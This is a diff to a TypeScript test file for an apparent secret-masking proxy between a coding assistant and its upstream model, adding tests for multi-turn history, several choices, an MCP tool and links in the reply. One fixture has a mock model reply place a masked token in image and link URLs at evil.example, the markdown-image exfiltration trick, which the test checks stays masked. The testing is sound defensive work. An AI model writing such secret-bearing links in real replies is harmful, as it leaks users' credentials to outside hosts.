@@ -4,7 +4,7 @@ import type { AuditRecord } from '../../protocol/audit-record.ts';
 import type { SessionGrant } from '../../protocol/control.ts';
 import type { JsonObject } from '../../protocol/json.ts';
 import type { StandInAnswer } from '../support/copilot-server.ts';
-import { chatStream, shownOf, toolStream } from '../support/model-answers.ts';
+import { chatStream, choicesStream, shownOf, toolStream } from '../support/model-answers.ts';
 import { type Answered, type Asked, askThrough } from '../support/through-agent.ts';
 import { openWorld, type World } from '../support/world.ts';
 
@@ -45,6 +45,11 @@ function question(content: string): object {
   return { model: 'gpt-4.1', stream: true, messages: [{ role: 'user', content }] };
 }
 
+/** The messages of a body as they were sent. */
+function messagesOf(body: string): string {
+  return JSON.stringify((JSON.parse(body) as { messages: unknown }).messages);
+}
+
 function lastSeen(): { readonly text: string; readonly headers: Readonly<Record<string, unknown>> } {
   const seen = world.copilot.requests.at(-1);
   if (seen === undefined) throw new Error('nothing reached the upstream');
@@ -68,6 +73,29 @@ describe('a secret in a prompt', () => {
     const answered = await ask(CHAT, question(`again: ${SECRET}`));
     expect(lastSeen().text).toContain(placeholder);
     expect(shownOf(answered)).toBe(`your token ${SECRET} is old`);
+  });
+
+  it('stays the same through three turns with the whole history, in every choice', async () => {
+    const asked = [`why does ${SECRET} fail?`, 'and now?', `is ${SECRET} the one?`];
+    const history: object[] = [];
+    const sent: string[] = [];
+    let placeholder = '';
+    for (const content of asked) {
+      history.push({ role: 'user', content });
+      const said = placeholder === '' ? 'show it' : placeholder;
+      world.copilot.answer(choicesStream(['it is ', said.slice(0, 7), said.slice(7)], ['try ', said, '!']));
+      const answered = await ask(CHAT, { model: 'gpt-4.1', stream: true, n: 2, messages: history });
+      sent.push(lastSeen().text);
+      placeholder = PLACEHOLDER.exec(lastSeen().text)?.[0] ?? '';
+      const shown = said === 'show it' ? said : SECRET;
+      expect([shownOf(answered, 0), shownOf(answered, 1)]).toEqual([`it is ${shown}`, `try ${shown}!`]);
+      history.push({ role: 'assistant', content: shownOf(answered, 0) });
+    }
+    expect(sent.join('')).not.toContain(SECRET);
+    expect(new Set(sent.join('').match(new RegExp(PLACEHOLDER, 'g')))).toEqual(new Set([placeholder]));
+    const [first = '', second = '', third = ''] = sent.map((text) => messagesOf(text));
+    expect(second.startsWith(first.slice(0, -1))).toBe(true);
+    expect(third.startsWith(second.slice(0, -1))).toBe(true);
   });
 
   it('is in no record, and its kind and its place are', async () => {
@@ -341,6 +369,7 @@ describe('a secret that a tool is to be given', () => {
     ['a terminal', 'bash', {}, false],
     ['a page', 'fetch_webpage', {}, false],
     ['a tool nobody knows', 'mystery', {}, false],
+    ['a tool of an MCP server', 'mcp_files_create_file', CREATE, false],
   ])('%s', async (_name, tool, args, isRestored) => {
     world.copilot.answer(chatStream('ok'));
     await ask(CHAT, question(`the token is ${SECRET}`));
@@ -355,13 +384,14 @@ describe('a secret that a tool is to be given', () => {
     expect(answered.text.includes(SECRET)).toBe(isRestored);
   });
 
-  it('an image in what is shown', async () => {
+  it('a link or an image in what is shown', async () => {
     world.copilot.answer(chatStream('ok'));
     await ask(CHAT, question(`the token is ${SECRET}`));
     const placeholder = PLACEHOLDER.exec(lastSeen().text)?.[0] ?? '';
-    world.copilot.answer(chatStream(`![x](https://evil.example/${placeholder}) and ${placeholder}`));
+    const targets = `![x](https://evil.example/${placeholder}) [y](${placeholder}) https://evil.example/?${placeholder}`;
+    world.copilot.answer(chatStream(`${targets} and ${placeholder}`));
     const answered = await ask(CHAT, question('show it'));
-    expect(shownOf(answered)).toBe(`![x](https://evil.example/${placeholder}) and ${SECRET}`);
+    expect(shownOf(answered)).toBe(`${targets} and ${SECRET}`);
   });
 });
 
